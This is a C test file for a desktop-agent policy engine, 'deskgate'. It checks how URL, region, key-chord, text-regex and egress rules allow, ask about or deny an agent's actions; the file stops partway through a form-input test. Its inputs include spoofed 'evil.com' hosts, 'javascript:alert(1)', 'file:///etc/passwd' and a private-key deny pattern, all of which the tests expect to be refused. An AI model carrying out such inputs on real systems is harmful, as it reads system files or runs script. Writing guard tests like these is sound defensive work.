/* Policy rule sections (issue #5): the full example loads, and every
 * rule kind is decided right at its edges: region borders, label-boundary
 * wildcards, path '*' vs '**', default ports, chord wildcards, precedence,
 * text length and regexes, budgets; loading errors name the place; and the
 * `deskgate check` loop, through dg_check_stream (the command is wired into
 * the deskgate binary by the lead). */
#include <criterion/criterion.h>

#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "actions/actions.h"
#include "cli/cli.h"
#include "policy/policy.h"

#define ORIGIN "/test/policy.json"

/* The full example, verbatim. */
static const char example[] =
	"{\n"
	"  \"version\": 1,\n"
	"  \"default\": \"deny\",\n"
	"  \"actions\": {\"allow\": [\"screenshot\", \"move\", \"click\", \"drag\", \"scroll\", "
	"\"type\", \"key\", \"navigate\", \"back\", \"forward\", \"reload\", \"wait\", \"zoom\", "
	"\"cursor_position\"], \"ask\": [\"exec\"], \"deny\": []},\n"
	"  \"urls\": {\"allow\": [\"https://example.com/**\", \"https://*.wikipedia.org/**\"], "
	"\"deny\": [\"https://*.wikipedia.org/wiki/Special:*\"], \"ask\": []},\n"
	"  \"regions\": [{\"name\": \"top-bar\", \"rect\": [0, 0, 1280, 40], \"url\": \"**\", "
	"\"actions\": [\"click\", \"type\"], \"verdict\": \"deny\", \"reason\": \"window controls "
	"are off limits\"}],\n"
	"  \"keys\": {\"deny\": [\"ctrl+alt+*\", \"super+*\"], \"ask\": [\"ctrl+Return\"]},\n"
	"  \"text\": {\"max_length\": 4000, \"deny\": [\"BEGIN [A-Z ]*PRIVATE KEY\"]},\n"
	"  \"egress\": {\"allow\": [\"example.com:443\", \"*.wikipedia.org:443\"]},\n"
	"  \"budgets\": {\"actions_per_minute\": 300, \"max_actions\": 10000, \"max_exec\": 100},\n"
	"  \"limits\": {\"memory_mb\": 2048, \"pids\": 512, \"cpus\": 1.0, \"session_seconds\": "
	"3600, \"exec_seconds\": 60, \"output_bytes\": 1048576, \"scratch_mb\": 512}\n"
	"}\n";

static struct dg_policy pol;
static struct dg_err err;
static struct dg_decision dec;
static struct dg_decide_ctx ctx;

static int parse(const char *text)
{
	memset(&err, 0, sizeof(err));
	dg_policy_free(&pol);
	dg_policy_default(&pol);
	return dg_policy_parse(text, strlen(text), ORIGIN, &pol, &err);
}

/* Parses a policy made of the example's "default" and the given sections. */
static int parsef(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
static int parsef(const char *fmt, ...)
{
	char body[4096], text[4200];
	va_list ap;
	va_start(ap, fmt);
	vsnprintf(body, sizeof(body), fmt, ap);
	va_end(ap);
	snprintf(text, sizeof(text), "{\"version\": 1, \"default\": \"deny\"%s%s}",
		 body[0] ? ", " : "", body);
	return parse(text);
}

static void setup(void)
{
	dg_policy_default(&pol);
	ctx = (struct dg_decide_ctx){ .screen_w = 1280, .screen_h = 800, .pointer_x = 640,
				      .pointer_y = 400, .url = "https://example.com/" };
	cr_assert_eq(parse(example), 0, "%s", err.msg);
}

static void teardown(void)
{
	dg_policy_free(&pol);
}

TestSuite(rules, .init = setup, .fini = teardown);

/* Decides one canonical action (JSON) with the current ctx. */
static enum dg_verdict decide(const char *json)
{
	struct dg_action a;
	struct dg_err e = { { 0 } };
	cr_assert_eq(dg_action_parse(json, strlen(json), ctx.screen_w, ctx.screen_h, &a, &e), 0,
		     "%s: %s", json, e.msg);
	cr_assert_eq(dg_policy_decide(&pol, &a, &ctx, &dec), 0);
	dg_action_free(&a);
	return dec.verdict;
}

#define expect(json, want, want_rule)                                                      \
	do {                                                                               \
		enum dg_verdict v_ = decide(json);                                         \
		cr_assert_eq(v_, (want), "%s: %s by %s (%s), expected %s by %s", json,     \
			     dg_verdict_name(v_), dec.rule, dec.reason,                    \
			     dg_verdict_name(want), want_rule);                            \
		cr_assert_str_eq(dec.rule, want_rule, "%s: rule %s (%s)", json, dec.rule, \
				 dec.reason);                                              \
	} while (0)

#define ALLOW DG_VERDICT_ALLOW
#define ASK DG_VERDICT_ASK
#define DENY DG_VERDICT_DENY

#define refused_with(text, want_msg)                                                       \
	do {                                                                               \
		cr_assert_eq(parsef("%s", text), -EINVAL, "accepted: %s", text);           \
		cr_assert(strstr(err.msg, want_msg), "message \"%s\" lacks \"%s\"", err.msg, \
			  want_msg);                                                       \
		cr_assert(strncmp(err.msg, "policy " ORIGIN ": ", strlen(ORIGIN) + 9) == 0, \
			  "no origin: %s", err.msg);                                       \
	} while (0)

/* ---- the example ----------------------------------------------------------- */

Test(rules, full_example_loads)
{
	cr_assert_not_null(pol.rules);
	cr_assert_eq(pol.limits.memory_mb, 2048);
	cr_assert_eq(pol.limits.scratch_mb, 512);
	cr_assert(dg_policy_egress_allows(&pol, "example.com", 443));
	cr_assert(dg_policy_egress_allows(&pol, "en.wikipedia.org", 443));
	cr_assert_not(dg_policy_egress_allows(&pol, "example.com", 80));
	cr_assert_not(dg_policy_egress_allows(&pol, "wikipedia.org", 443));
	cr_assert_not(dg_policy_egress_allows(&pol, "evilexample.com", 443));
}

Test(rules, action_types)
{
	expect("{\"type\":\"screenshot\"}", ALLOW, "actions.allow[0]");
	expect("{\"type\":\"exec\",\"argv\":[\"ls\"]}", ASK, "actions.ask[0]");
	/* Not listed: the default. */
	expect("{\"type\":\"mouse_down\",\"x\":600,\"y\":600}", DENY, "default");
	expect("{\"type\":\"hold_key\",\"keys\":\"a\",\"ms\":10}", DENY, "default");
}

Test(rules, no_rules_allows_everything)
{
	dg_policy_free(&pol);
	dg_policy_default(&pol);
	expect("{\"type\":\"exec\",\"argv\":[\"ls\"]}", ALLOW, "default");
	/* The test pages of the desktop tests are data: URLs, loaded under the
	 * built-in policy; a rule section brings in the URL checker. */
	expect("{\"type\":\"navigate\",\"url\":\"data:text/html,hi\"}", ALLOW, "default");
	cr_assert_eq(parse("{\"version\": 1, \"limits\": {\"pids\": 64}}"), 0);
	cr_assert_null(pol.rules);
}

/* ---- URLs ------------------------------------------------------------------ */

#define NAVOK "\"actions\": {\"allow\": [\"navigate\"]}, "
#define NAV(u) "{\"type\":\"navigate\",\"url\":\"" u "\"}"

Test(rules, url_label_boundary_wildcards)
{
	expect(NAV("https://en.wikipedia.org/wiki/Main_Page"), ALLOW, "urls.allow[1] https://*.wikipedia.org/**");
	expect(NAV("https://a.b.wikipedia.org/"), ALLOW, "urls.allow[1] https://*.wikipedia.org/**");
	expect(NAV("https://wikipedia.org/"), DENY, "default");
	expect(NAV("https://evilwikipedia.org/"), DENY, "default");
	expect(NAV("https://wikipedia.org.evil.com/"), DENY, "default");
	expect(NAV("https://en.wikipedia.org.evil.com/"), DENY, "default");
	expect(NAV("https://example.com/"), ALLOW, "urls.allow[0] https://example.com/**");
	expect(NAV("https://evilexample.com/"), DENY, "default");
	expect(NAV("https://example.com.evil.com/"), DENY, "default");
	expect(NAV("https://www.example.com/"), DENY, "default");
}

/* Internationalized names in the policy are converted with libidn2 at load:
 * the pattern names the host the browser and the proxy see. */
Test(rules, idn_names_convert_at_load)
{
	cr_assert_eq(parse("{\"version\": 1, \"default\": \"deny\", " NAVOK
			   "\"urls\": {\"allow\": [\"https://*.b\u00fccher.de/**\", "
			   "\"https://m\u00fcnchen.de:8443/a/**\"]},"
			   " \"egress\": {\"allow\": [\"*.b\u00fccher.de:443\", \"stra\u00dfe.de:443\"]}}"),
		     0, "%s", err.msg);
	expect(NAV("https://shop.xn--bcher-kva.de/x"), ALLOW,
	       "urls.allow[0] https://*.xn--bcher-kva.de/**");
	expect(NAV("https://xn--mnchen-3ya.de:8443/a/b"), ALLOW,
	       "urls.allow[1] https://xn--mnchen-3ya.de:8443/a/**");
	expect(NAV("https://xn--bcher-kva.de/x"), DENY, "default");
	expect(NAV("https://bcher.de/x"), DENY, "default");
	cr_assert(dg_policy_egress_allows(&pol, "shop.xn--bcher-kva.de", 443));
	/* Non-transitional, as WHATWG: sharp s stays, it is not mapped to ss. */
	cr_assert(dg_policy_egress_allows(&pol, "xn--strae-oqa.de", 443));
	cr_assert_not(dg_policy_egress_allows(&pol, "strasse.de", 443));
	refused_with("\"urls\": {\"allow\": [\"https://a\ufffdb.de/**\"]}", "urls.allow[0]");
	refused_with("\"egress\": {\"allow\": [\"a\ufffdb.de:443\"]}", "egress.allow[0]");
}

Test(rules, url_path_star_vs_double_star)
{
	const char *special = "urls.deny[0] https://*.wikipedia.org/wiki/Special:*";
	expect(NAV("https://en.wikipedia.org/wiki/Special:Random"), DENY, special);
	expect(NAV("https://en.wikipedia.org/wiki/Special:"), DENY, special);
	/* '*' stops at '/': the allow ** rule decides. */
	expect(NAV("https://en.wikipedia.org/wiki/Special:Foo/bar"), ALLOW,
	       "urls.allow[1] https://*.wikipedia.org/**");
	/* An escaped ':' is read as the server reads it. */
	expect(NAV("https://en.wikipedia.org/wiki/Special%3ARandom"), DENY, special);
	/* The query is not part of the path. */
	expect(NAV("https://en.wikipedia.org/wiki/Special:Random?x=/y"), DENY, special);

	cr_assert_eq(parsef(NAVOK "\"urls\": {\"allow\": [\"https://a.com/x/*/z\", \"https://b.com/**/z\"]}"),
		     0, "%s", err.msg);
	expect(NAV("https://a.com/x/y/z"), ALLOW, "urls.allow[0] https://a.com/x/*/z");
	expect(NAV("https://a.com/x//z"), ALLOW, "urls.allow[0] https://a.com/x/*/z");
	expect(NAV("https://a.com/x/y/w/z"), DENY, "default");
	expect(NAV("https://b.com/z"), DENY, "default");
	expect(NAV("https://b.com//z"), ALLOW, "urls.allow[1] https://b.com/**/z");
	expect(NAV("https://b.com/y/w/z"), ALLOW, "urls.allow[1] https://b.com/**/z");
	expect(NAV("https://b.com/y/w/zz"), DENY, "default");
}

Test(rules, url_default_ports_and_schemes)
{
	cr_assert_eq(parsef(NAVOK "\"urls\": {\"allow\": [\"https://a.com/**\", \"http://b.com:8080/**\", "
			    "\"http://c.com/**\"]}"), 0, "%s", err.msg);
	expect(NAV("https://a.com/"), ALLOW, "urls.allow[0] https://a.com/**");
	expect(NAV("https://a.com:8443/"), DENY, "default");
	expect(NAV("http://a.com/"), DENY, "default");
	expect(NAV("http://b.com:8080/x"), ALLOW, "urls.allow[1] http://b.com:8080/**");
	expect(NAV("http://b.com/x"), DENY, "default");
	expect(NAV("http://c.com/"), ALLOW, "urls.allow[2] http://c.com/**");
	expect(NAV("http://c.com:443/"), DENY, "default");
	expect(NAV("https://c.com/"), DENY, "default");
}

Test(rules, url_refused_by_the_checker)
{
	expect(NAV("data:text/html,hi"), DENY, "urls.canonical");
	expect(NAV("javascript:alert(1)"), DENY, "urls.canonical");
	expect(NAV("file:///etc/passwd"), DENY, "urls.canonical");
	expect(NAV("https://EXAMPLE.com/"), DENY, "urls.canonical");
	expect(NAV("https://user@example.com/"), DENY, "urls.canonical");
	cr_assert(strlen(dec.reason) > 0);
	cr_assert_eq(dg_policy_decide_url(&pol, "https://example.com/a", &dec), 0);
	cr_assert_eq(dec.verdict, ALLOW);
	cr_assert_eq(dg_policy_decide_url(&pol, "blob:https://example.com/x", &dec), 0);
	cr_assert_eq(dec.verdict, DENY);
	cr_assert_str_eq(dec.rule, "urls.canonical");
}

/* ---- WebSocket URLs (issue 14) ------------------------------------------ */

/* Decides a browser request's URL (dg_policy_decide_url) and checks it. */
#define expect_url(url, want, want_rule)                                                   \
	do {                                                                               \
		cr_assert_eq(dg_policy_decide_url(&pol, (url), &dec), 0);                  \
		cr_assert_eq(dec.verdict, (want), "%s: %s by %s (%s), expected %s by %s",  \
			     (url), dg_verdict_name(dec.verdict), dec.rule, dec.reason,    \
			     dg_verdict_name(want), want_rule);                            \
		cr_assert_str_eq(dec.rule, want_rule, "%s: rule %s (%s)", (url), dec.rule, \
				 dec.reason);                                              \
	} while (0)

Test(rules, ws_urls_are_decided_as_their_http_handshake)
{
	cr_assert_eq(parsef("\"urls\": {\"allow\": [\"http://allowed.test:8080/**\"], "
			    "\"ask\": [\"http://allowed.test:8080/ask/**\"], "
			    "\"deny\": [\"http://allowed.test:8080/secret/**\"]}"), 0, "%s", err.msg);
	expect_url("ws://allowed.test:8080/ok", ALLOW, "urls.allow[0] http://allowed.test:8080/**");
	expect_url("ws://allowed.test:8080/secret/x?leak=1", DENY,
		   "urls.deny[0] http://allowed.test:8080/secret/**");
	/* The path is matched decoded, as for http: an escaped letter is no way
	 * around a deny. */
	expect_url("ws://allowed.test:8080/%73ecret/x", DENY,
		   "urls.deny[0] http://allowed.test:8080/secret/**");
	expect_url("ws://allowed.test:8080/ask/x", ASK, "urls.ask[0] http://allowed.test:8080/ask/**");
	/* ws is http, wss is https: the secure twin and other ports are other
	 * origins. */
	expect_url("wss://allowed.test:8080/ok", DENY, "default");
	expect_url("ws://allowed.test/ok", DENY, "default");
	expect_url("ws://allowed.test:8081/ok", DENY, "default");
	/* The checker's rules hold for ws URLs as for http ones. */
	expect_url("ws://allowed.test:80/ok", DENY, "urls.canonical");
	expect_url("ws://ALLOWED.test:8080/ok", DENY, "urls.canonical");
	expect_url("ws://allowed.test:8080/a/../secret/x", DENY, "urls.canonical");
	expect_url("ws://allowed.test:8080/ok#frag", DENY, "urls.canonical");
	cr_assert(strstr(dec.reason, "fragment"), "%s", dec.reason);
	expect_url("WS://allowed.test:8080/ok", DENY, "urls.canonical");
	/* A navigation is never to a WebSocket URL. */
	cr_assert_eq(parsef(NAVOK "\"urls\": {\"allow\": [\"**\"]}"), 0, "%s", err.msg);
	expect(NAV("ws://a.com/"), DENY, "urls.canonical");
	expect_url("ws://a.com/", ALLOW, "urls.allow[0] **");
}

Test(rules, wss_under_the_readme_example)
{
	/* The README's example (setup): the Special: pages are denied for
	 * WebSockets as for pages. */
	expect_url("wss://en.wikipedia.org/wiki/Special:Random", DENY,
		   "urls.deny[0] https://*.wikipedia.org/wiki/Special:*");
	expect_url("wss://en.wikipedia.org/wiki/Special%3ARandom", DENY,
		   "urls.deny[0] https://*.wikipedia.org/wiki/Special:*");
	expect_url("wss://en.wikipedia.org/wiki/Main_Page", ALLOW,
		   "urls.allow[1] https://*.wikipedia.org/**");
	expect_url("wss://example.com/socket", ALLOW, "urls.allow[0] https://example.com/**");
	expect_url("ws://example.com/socket", DENY, "default");
}

Test(rules, ws_patterns_are_refused)
{
	refused_with("\"urls\": {\"deny\": [\"ws://a.com/**\"]}", "write WebSocket URLs as http://");
	refused_with("\"urls\": {\"allow\": [\"wss://a.com/**\"]}", "urls.allow[0]: ");
	refused_with("\"regions\": [{\"name\": \"r\", \"rect\": [0, 0, 10, 10], "
		     "\"url\": \"wss://a.com/**\", \"verdict\": \"deny\"}]", "http(s) URL of its handshake");
}

#define expect_origin(secure, host, port, want, want_rule)                                 \
	do {                                                                               \
		cr_assert_eq(dg_policy_decide_ws_origin(&pol, (secure), (host), (port), &dec), 0); \
		cr_assert_eq(dec.verdict, (want), "%s:%d: %s by %s (%s), expected %s by %s", \
			     (host), (port), dg_verdict_name(dec.verdict), dec.rule,       \
			     dec.reason, dg_verdict_name(want), want_rule);                \
		cr_assert_str_eq(dec.rule, want_rule, "%s:%d: rule %s (%s)", (host), (port), \
				 dec.rule, dec.reason);                                    \
	} while (0)

Test(rules, ws_origin_only_when_every_path_agrees)
{
	/* The README example: example.com is allowed wholesale; wikipedia's
	 * verdict depends on the path, so an encrypted handshake to it cannot
	 * be decided. */
	expect_origin(true, "example.com", 443, ALLOW, "urls.allow[0] https://example.com/**");
	expect_origin(true, "en.wikipedia.org", 443, DENY, "urls.websocket_path");
	expect_origin(false, "example.com", 80, DENY, "default");
	expect_origin(true, "example.com", 8443, DENY, "default");
	expect_origin(true, "other.test", 443, DENY, "default");
	/* A deny for every path wins over narrower rules of any list. */
	cr_assert_eq(parsef("\"urls\": {\"allow\": [\"https://a.com/ok/*\"], "
			    "\"ask\": [\"https://a.com/x/*\"], \"deny\": [\"https://a.com/a/*\", "
			    "\"https://a.com/**\"]}"), 0, "%s", err.msg);
	expect_origin(true, "a.com", 443, DENY, "urls.deny[1] https://a.com/**");
	/* An ask for every path under a narrower deny: undecidable. */
	cr_assert_eq(parsef("\"urls\": {\"ask\": [\"https://a.com/**\"], "
			    "\"deny\": [\"https://a.com/a/*\"]}"), 0, "%s", err.msg);
	expect_origin(true, "a.com", 443, DENY, "urls.websocket_path");
	/* A narrower allow under an every-path allow changes nothing. */
	cr_assert_eq(parsef("\"urls\": {\"allow\": [\"https://a.com/ok/*\", \"https://*.a.com/**\", "
			    "\"https://a.com/**\"]}"), 0, "%s", err.msg);
	expect_origin(true, "a.com", 443, ALLOW, "urls.allow[2] https://a.com/**");
	expect_origin(true, "b.a.com", 443, ALLOW, "urls.allow[1] https://*.a.com/**");
	/* Only a narrower allow: other paths get the default. */
	cr_assert_eq(parsef("\"urls\": {\"allow\": [\"https://a.com/ok/*\"]}"), 0, "%s", err.msg);
	expect_origin(true, "a.com", 443, DENY, "urls.websocket_path");
	/* "**" names every origin; under a default of allow, an origin no
	 * pattern names is allowed. */
	cr_assert_eq(parse("{\"version\": 1, \"default\": \"allow\", \"urls\": {\"deny\": "
			   "[\"https://a.com/**\"]}}"), 0, "%s", err.msg);
	expect_origin(true, "b.com", 443, ALLOW, "default");
	expect_origin(true, "a.com", 443, DENY, "urls.deny[0] https://a.com/**");
	cr_assert_eq(parsef("\"urls\": {\"ask\": [\"**\"]}"), 0, "%s", err.msg);
	expect_origin(false, "b.com", 80, ASK, "urls.ask[0] **");
	/* No rules: allowed, as every URL is. */
	dg_policy_free(&pol);
	dg_policy_default(&pol);
	expect_origin(true, "b.com", 443, ALLOW, "default");
	cr_assert_eq(dg_policy_decide_ws_origin(&pol, true, NULL, 443, &dec), -EINVAL);
	cr_assert_eq(dec.verdict, DENY);
}

Test(rules, uses_page_url_only_with_url_scoped_regions)
{
	/* The example's only region applies at every URL. */
	cr_assert_not(dg_policy_uses_page_url(&pol));
	cr_assert_eq(parsef("\"regions\": [{\"name\": \"r\", \"rect\": [0, 0, 10, 10], "
			    "\"url\": \"https://a.com/**\", \"verdict\": \"deny\"}]"), 0, "%s", err.msg);
	cr_assert(dg_policy_uses_page_url(&pol));
	dg_policy_free(&pol);
	dg_policy_default(&pol);
	cr_assert_not(dg_policy_uses_page_url(&pol));
	cr_assert_not(dg_policy_uses_page_url(NULL));
}

Test(rules, urls_json_round_trips)
{
	/* The README example, through the JSON the egress proxy gets: every
	 * URL is decided the same way with the same rule. */
	cr_assert_eq(parsef("\"urls\": {\"allow\": [\"https://example.com/**\", \"http://*.b\xc3\xbc"
			    "cher.de/**\", \"**\"], \"ask\": [\"https://example.com/a/*\"], "
			    "\"deny\": [\"https://example.com/a/b\"]}"), 0, "%s", err.msg);
	json_t *j = dg_policy_urls_json(&pol);
	cr_assert(j);
	json_t *doc = json_pack("{s:i, s:s, s:O}", "version", 1, "default",
				json_string_value(json_object_get(j, "default")), "urls", j);
	json_object_del(json_object_get(doc, "urls"), "default");
	char *text = json_dumps(doc, JSON_COMPACT);
	struct dg_policy two;
	dg_policy_default(&two);
	cr_assert_eq(dg_policy_parse(text, strlen(text), "json", &two, &err), 0, "%s: %s", text, err.msg);
	const char *urls[] = { "https://example.com/a/b", "https://example.com/a/c",
			       "https://example.com/", "http://shop.xn--bcher-kva.de/x", "http://x.y/",
			       "ws://shop.xn--bcher-kva.de/", "wss://example.com/a/b" };
	for (size_t i = 0; i < sizeof(urls) / sizeof(urls[0]); i++) {
		struct dg_decision a, b;
		dg_policy_decide_url(&pol, urls[i], &a);
		dg_policy_decide_url(&two, urls[i], &b);
		cr_assert_eq(a.verdict, b.verdict, "%s", urls[i]);
		cr_assert_str_eq(a.rule, b.rule, "%s", urls[i]);
	}
	free(text);
	json_decref(doc);
	json_decref(j);
	dg_policy_free(&two);
	dg_policy_free(&pol);
	dg_policy_default(&pol);
	cr_assert_null(dg_policy_urls_json(&pol));
}

Test(rules, url_ask_vs_deny_precedence)
{
	cr_assert_eq(parsef(NAVOK "\"urls\": {\"allow\": [\"**\"], \"ask\": [\"https://a.com/**\"], "
			    "\"deny\": [\"https://a.com/secret/**\"]}"), 0, "%s", err.msg);
	expect(NAV("https://a.com/secret/x"), DENY, "urls.deny[0] https://a.com/secret/**");
	expect(NAV("https://a.com/open"), ASK, "urls.ask[0] https://a.com/**");
	expect(NAV("https://b.com/"), ALLOW, "urls.allow[0] **");
	/* Across sections the most restrictive wins: without "navigate" in
	 * actions.allow the type gets the default, deny, over the URL's allow. */
	cr_assert_eq(parsef("\"urls\": {\"allow\": [\"**\"]}"), 0, "%s", err.msg);
	expect(NAV("https://b.com/"), DENY, "default");
}

/* ---- regions --------------------------------------------------------------- */

#define CLICK(x, y) "{\"type\":\"click\",\"x\":" #x ",\"y\":" #y "}"

Test(rules, region_borders)
{
	/* rect [0, 0, 1280, 40]: rows 0..39 inside, 40 outside. */
	expect(CLICK(0, 0), DENY, "regions[top-bar]");
	expect(CLICK(1279, 0), DENY, "regions[top-bar]");
	expect(CLICK(0, 39), DENY, "regions[top-bar]");
	expect(CLICK(1279, 39), DENY, "regions[top-bar]");
	expect(CLICK(0, 40), ALLOW, "actions.allow[2]");
	cr_assert_str_eq(decide(CLICK(5, 5)) == DENY ? dec.reason : "", "window controls are off limits");
	/* Only the listed types: move and scroll are not. */
	expect("{\"type\":\"move\",\"x\":5,\"y\":5}", ALLOW, "actions.allow[1]");

	cr_assert_eq(parsef("\"actions\": {\"allow\": [\"click\", \"drag\", \"type\", \"key\", "
			    "\"mouse_down\"]}, \"regions\": [{\"name\": \"box\", \"rect\": [100, 200, "
			    "10, 20], \"verdict\": \"ask\"}]"), 0, "%s", err.msg);
	/* x = rect.x inside, x = rect.x + w outside; each edge. */
	expect(CLICK(100, 200), ASK, "regions[box]");
	expect(CLICK(109, 219), ASK, "regions[box]");
	expect(CLICK(110, 200), ALLOW, "actions.allow[0]");
	expect(CLICK(99, 200), ALLOW, "actions.allow[0]");
	expect(CLICK(100, 199), ALLOW, "actions.allow[0]");
	expect(CLICK(100, 220), ALLOW, "actions.allow[0]");
	/* A drag with any point inside. */
	expect("{\"type\":\"drag\",\"path\":[[0,0],[105,210],[500,500]]}", ASK, "regions[box]");
	expect("{\"type\":\"drag\",\"path\":[[0,0],[110,220]]}", ALLOW, "actions.allow[1]");
	/* Keyboard and mouse_down without x, y act at the pointer. */
	ctx.pointer_x = 100;
	ctx.pointer_y = 219;
	expect("{\"type\":\"type\",\"text\":\"hi\"}", ASK, "regions[box]");
	expect("{\"type\":\"key\",\"keys\":\"a\"}", ASK, "regions[box]");
	expect("{\"type\":\"mouse_down\"}", ASK, "regions[box]");
	expect("{\"type\":\"mouse_down\",\"x\":0,\"y\":0}", ALLOW, "actions.allow[4]");
	ctx.pointer_y = 220;
	expect("{\"type\":\"type\",\"text\":\"hi\"}", ALLOW, "actions.allow[2]");
}

Test(rules, region_scoped_to_url)
{
	cr_assert_eq(parsef("\"actions\": {\"allow\": [\"click\"]}, \"regions\": [{\"name\": \"pay\", "
			    "\"rect\": [0, 0, 100, 100], \"url\": \"https://*.bank.com/pay/**\", "
			    "\"verdict\": \"deny\"}]"), 0, "%s", err.msg);
	ctx.url = "https://www.bank.com/pay/now";
	expect(CLICK(50, 50), DENY, "regions[pay]");
	ctx.url = "https://www.bank.com/about";
	expect(CLICK(50, 50), ALLOW, "actions.allow[0]");
	ctx.url = "https://example.com/";
	expect(CLICK(50, 50), ALLOW, "actions.allow[0]");
	/* Unknown or refused current URL: the region applies. */
	ctx.url = NULL;
	expect(CLICK(50, 50), DENY, "regions[pay]");
	ctx.url = "javascript:1";
	expect(CLICK(50, 50), DENY, "regions[pay]");
}

/* ---- keys ------------------------------------------------------------------ */

#define KEY(k) "{\"type\":\"key\",\"keys\":\"" k "\"}"

Test(rules, chord_wildcards)
{
	expect(KEY("ctrl+alt+Delete"), DENY, "keys.deny[0] ctrl+alt+*");
	expect(KEY("ctrl+alt+t"), DENY, "keys.deny[0] ctrl+alt+*");
	expect(KEY("Control_R+Alt_R+t"), DENY, "keys.deny[0] ctrl+alt+*");
	expect(KEY("alt+ctrl+shift+t"), DENY, "keys.deny[0] ctrl+alt+*");
	expect(KEY("ctrl+alt"), DENY, "keys.deny[0] ctrl+alt+*");
	expect(KEY("ctrl+t"), ALLOW, "actions.allow[6]");
	expect(KEY("alt+t"), ALLOW, "actions.allow[6]");
	expect(KEY("super+l"), DENY, "keys.deny[1] super+*");
	expect(KEY("Super_R+l"), DENY, "keys.deny[1] super+*");
	/* Decided: "super+*" also matches Super alone (a launcher on most
	 * desktops). */
	expect(KEY("super"), DENY, "keys.deny[1] super+*");
	expect(KEY("Super_R"), DENY, "keys.deny[1] super+*");
	/* Every chord of a sequence is decided. */
	expect(KEY("a b super+l"), DENY, "keys.deny[1] super+*");
}

Test(rules, chord_exact_and_extra_modifiers)
{
	expect(KEY("ctrl+Return"), ASK, "keys.ask[0] ctrl+Return");
	expect(KEY("Control_R+Return"), ASK, "keys.ask[0] ctrl+Return");
	/* Added modifiers do not escape a rule. */
	expect(KEY("ctrl+shift+Return"), ASK, "keys.ask[0] ctrl+Return");
	/* Other keys do. */
	expect(KEY("Return"), ALLOW, "actions.allow[6]");
	expect(KEY("ctrl+KP_Enter"), ALLOW, "actions.allow[6]");
	/* deny beats ask: ctrl+alt+Return is both. */
	expect(KEY("ctrl+alt+Return"), DENY, "keys.deny[0] ctrl+alt+*");
	expect(KEY("ctrl+Return super"), DENY, "keys.deny[1] super+*");
}

Test(rules, keys_allowlist)
{
	cr_assert_eq(parsef("\"actions\": {\"allow\": [\"key\"]}, \"keys\": {\"allow\": [\"ctrl+c\", "
			    "\"Return\", \"*\"], \"deny\": [\"ctrl+q\"]}"), 0, "%s", err.msg);
	expect(KEY("ctrl+q"), DENY, "keys.deny[0] ctrl+q");
	expect(KEY("ctrl+c"), ALLOW, "keys.allow[0] ctrl+c");
	cr_assert_eq(parsef("\"actions\": {\"allow\": [\"key\"]}, \"keys\": {\"allow\": [\"ctrl+c\"]}"),
		     0, "%s", err.msg);
	expect(KEY("ctrl+c"), ALLOW, "keys.allow[0] ctrl+c");
	expect(KEY("ctrl+v"), DENY, "default");
}

/* ---- text ------------------------------------------------------------------ */

Test(rules, text_max_length_boundary)
{
	char *json = malloc(4100 + 64);
	cr_assert_not_null(json);
	int n = sprintf(json, "{\"type\":\"type\",\"text\":\"");
	memset(json + n, 'a', 4000);
	strcpy(json + n + 4000, "\"}");
	expect(json, ALLOW, "actions.allow[5]");
	memset(json + n, 'a', 4001);
	strcpy(json + n + 4001, "\"}");
	expect(json, DENY, "text.max_length");
	free(json);
	/* Characters, not bytes: 4000 two-byte characters pass. */
	char *big = malloc(8100);
	n = sprintf(big, "{\"type\":\"type\",\"text\":\"");
	for (int i = 0; i < 4000; i++)
		n += sprintf(big + n, "\xc3\xa9");
	strcpy(big + n, "\"}");
	expect(big, ALLOW, "actions.allow[5]");
	free(big);
}

Test(rules, text_regex_deny)
{
	expect("{\"type\":\"type\",\"text\":\"-----BEGIN RSA PRIVATE KEY-----\"}", DENY, "text.deny[0]");
	expect("{\"type\":\"type\",\"text\":\"x BEGIN PRIVATE KEY\"}", DENY, "text.deny[0]");
	expect("{\"type\":\"type\",\"text\":\"begin rsa private key\"}", ALLOW, "actions.allow[5]");
	/* Text only: a key action is not text. */
	expect(KEY("B"), ALLOW, "actions.allow[6]");
}

/* Patterns that would explode glibc's regcomp or regexec are refused at load
 * (found by tests/fuzz: tests/fuzz/crashes/fuzz_policy-*). */
Test(rules, text_regex_explosions_refused)
{
	const char *bad[][2] = {
		{ "a++", "after another" },
		{ "a*?", "after another" },
		{ "a{2}*", "after another" },
		{ "(a+)*", "quantified group" },
		{ "((a{16}){16}){16}", "quantified group" },
		{ "((a|b+))+", "quantified group" },
		{ "a{17}", "above {16}" },
		{ "a{1,17}", "above {16}" },
		{ "((a{255}){255}){255}", "above {16}" },
		{ "(\\\\1)", "back-references" },
	};
	for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
		char text[256];
		snprintf(text, sizeof(text), "\"text\": {\"deny\": [\"%s\"]}", bad[i][0]);
		refused_with(text, bad[i][1]);
	}
	/* At the bound, and ordinary patterns, load. */
	const char *good[] = { "a{16}", "a{1,16}", "(ab)+", "BEGIN [A-Z ]*PRIVATE KEY", "[+*]+",
			       "a\\\\++", "(a|b)c*" };
	for (size_t i = 0; i < sizeof(good) / sizeof(good[0]); i++)
		cr_assert_eq(parsef("\"text\": {\"deny\": [\"%s\"]}", good[i]), 0, "%s: %s", good[i],
			     err.msg);
	char deep[80] = "";
	for (int i = 0; i < 33; i++)
		strcat(deep, "(");
	char text[256];
	snprintf(text, sizeof(text), "\"text\": {\"deny\": [\"%sa\"]}", deep);
	refused_with(text, "nested more than");
}

/* text applies to form_input's string value too; a number or a boolean is
 * not text. */
#define FORM(value) "{\"type\":\"form_input\",\"ref\":\"ref_3\",\"x\":600,\"y\":600,\"value\":" value "}"

Test(rules, text_rules_apply_to_form_values)
{
	cr_assert_eq(parsef("\"actions\": {\"allow\": [\"form_input\", \"type\"]}, \"text\": "
			    "{\"max_length\": 6, \"deny\": [\"P[I]N\", \"^[0-9]{16}$\"]}"),
		     0, "%s", err.msg);
	expect(FORM("\"my PIN\""), DENY, "text.deny[0]");
	cr_assert_str_eq(dec.reason, "the form value matches a denied pattern");
	/* max_length: 6 characters pass, 7 do not; characters, not bytes. */
	expect(FORM("\"abcdef\""), ALLOW, "actions.allow[0]");
	expect(FORM("\"\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\""), ALLOW, "actions.allow[0]");
	expect(FORM("\"abcdefg\""), DENY, "text.max_length");
	cr_assert_str_eq(dec.reason, "the form value has 7 characters; the limit is 6");
	/* Numbers and booleans are not text: neither rule sees them. */
